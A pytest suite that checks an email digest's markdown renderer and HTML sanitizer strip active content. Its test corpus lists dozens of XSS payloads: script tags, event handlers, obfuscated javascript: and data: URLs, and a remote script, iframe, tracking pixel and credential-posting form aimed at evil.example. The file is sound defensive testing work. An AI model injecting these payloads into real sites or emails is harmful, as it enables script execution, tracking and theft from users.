"""The emails' HTML: markdown rendered, then sanitized. Whatever a user wrote (a comment, a
title, a name), no script, event handler, javascript: or data: URL, frame, form or image
survives, and every link gets rel="noopener noreferrer"."""

from __future__ import annotations

from datetime import date
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from laneway.mail import markdown
from laneway.mail.digest import Digest, Item, Line, html
from laneway.models import NotificationKind

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "![x](javascript:alert(1))",
    "![tracker](https://evil.example/pixel.gif)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]: data:text/html,x",
    "<javascript:alert(1)> <data:text/html,x>",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!-- --><script>alert(1)</script> -->",
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<input type="text" onfocus="alert(1)" autofocus>',
    "- [x] <img src=x onerror=alert(1)>\n- [ ] [a](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>\n> [q](javascript:alert(1))",
    "**<img src=x onerror=alert(1)>**",
    "[relative](/p/1?task=2) [protocol-relative](//evil.example/x)",
]
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}, "input": {"type", "checked", "disabled"}}
SCHEMES = {"http", "https", "mailto"}
# the email's own frame around the rendered part (digest.html)
SHELL = {"html": set(), "head": set(), "meta": {"charset"}, "title": set(), "body": {"style"}}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parsed(text: str) -> Tags:
    tags = Tags()
    tags.feed(text)
    tags.close()
    return tags


def assert_inert(text: str, shell: dict[str, set[str]] | None = None) -> None:
    allowed = {
        **ATTRIBUTES,
        **{tag: set() for tag in markdown.TAGS - ATTRIBUTES.keys()},
        **(shell or {}),
    }
    assert "<script" not in text.lower()
    for tag, attrs in parsed(text).tags:
        assert tag in allowed, (tag, text)
        assert set(attrs) <= allowed[tag], (tag, attrs, text)
        if tag == "a":
            assert attrs["rel"] == "noopener noreferrer", text
            href = attrs.get("href")
            if href is not None:
                assert urlsplit(href.strip()).scheme.lower() in SCHEMES, (href, text)
        if tag == "input":
            assert attrs.get("type") == "checkbox", (attrs, text)
            assert "disabled" in attrs, (attrs, text)


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_active_survives_rendering(text: str) -> None:
    assert_inert(markdown.render(text))


@pytest.mark.parametrize("text", [t for t in CORPUS if "<" in t])
def test_the_sanitizer_alone_removes_raw_html(text: str) -> None:
    """Were the renderer ever to pass raw HTML through, the sanitizer still stops it."""
    assert_inert(markdown.sanitize(text))


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_active_survives_in_an_email(text: str) -> None:
    task_url = "https://laneway.example/p/1?task=2"
    digest = Digest(
        email="ada@example.com",
        name=text,
        app_url="https://laneway.example/",
        inbox_url="https://laneway.example/inbox",
        unsubscribe_url="https://laneway.example/api/v1/unsubscribe?token=1.x",
        mentions=[
            Item(1, 1, Line(NotificationKind.mentioned, text, text, None), "WEB-2", text, task_url)
        ],
        assignments=[
            Item(2, 1, Line(NotificationKind.assigned, text, "", None), "WEB-2", text, task_url)
        ],
        latest=[
            Item(3, 1, Line(NotificationKind.commented, text, text, None), "WEB-2", text, task_url),
            Item(4, 1, Line(NotificationKind.status, text, text, None), "WEB-2", text, task_url),
            Item(
                5,
                1,
                Line(NotificationKind.overdue, None, "", date(2026, 12, 1)),
                "WEB-2",
                text,
                task_url,
            ),
        ],
    )
    digest.rest.add(NotificationKind.commented, text, 3, backlog=True)  # a project named so
    rendered = html(digest)
    assert_inert(rendered, SHELL)
    # a title or a name is shown as written, never turned into a link: the only links are ours
    hrefs = [attrs.get("href") for tag, attrs in parsed(rendered).tags if tag == "a"]
    ours = {
        task_url,
        "https://laneway.example/",
        "https://laneway.example/inbox",
        "https://laneway.example/api/v1/unsubscribe?token=1.x",
    }
    assert set(hrefs) - ours <= {None} | _links_a_comment_may_make(text)


def _links_a_comment_may_make(text: str) -> set[str | None]:
    """Links the comment excerpt itself makes (rendered as markdown, like the app shows it)."""
    return {attrs.get("href") for tag, attrs in parsed(markdown.render(text)).tags if tag == "a"}


def test_what_is_kept() -> None:
    out = markdown.render(
        "# Plan\n\n**bold** *em* `code` [site](https://ok.example/a?b=1&c=2) <mailto:a@b.example>"
        "\n\n- [x] done\n- [ ] open\n\n3. three\n\n> quoted"
    )
    assert "<h1>Plan</h1>" in out
    assert "<strong>bold</strong> <em>em</em> <code>code</code>" in out
    assert '<a href="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer">site</a>' in out
    assert '<a href="mailto:a@b.example" rel="noopener noreferrer">' in out
    boxes = [attrs for tag, attrs in parsed(out).tags if tag == "input"]
    assert len(boxes) == 2
    assert all(box["type"] == "checkbox" for box in boxes)
    assert all("disabled" in box for box in boxes)
    assert ["checked" in box for box in boxes] == [True, False]
    assert '<ol start="3">' in out
    assert "<blockquote>" in out


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc"))))
def test_escaped_text_shows_as_written(text: str) -> None:
    rendered = markdown.render(markdown.escape(text))
    tags = parsed(rendered)
    assert {tag for tag, _ in tags.tags} <= {"p"}
    assert "".join(tags.text).strip() == " ".join(text.split())
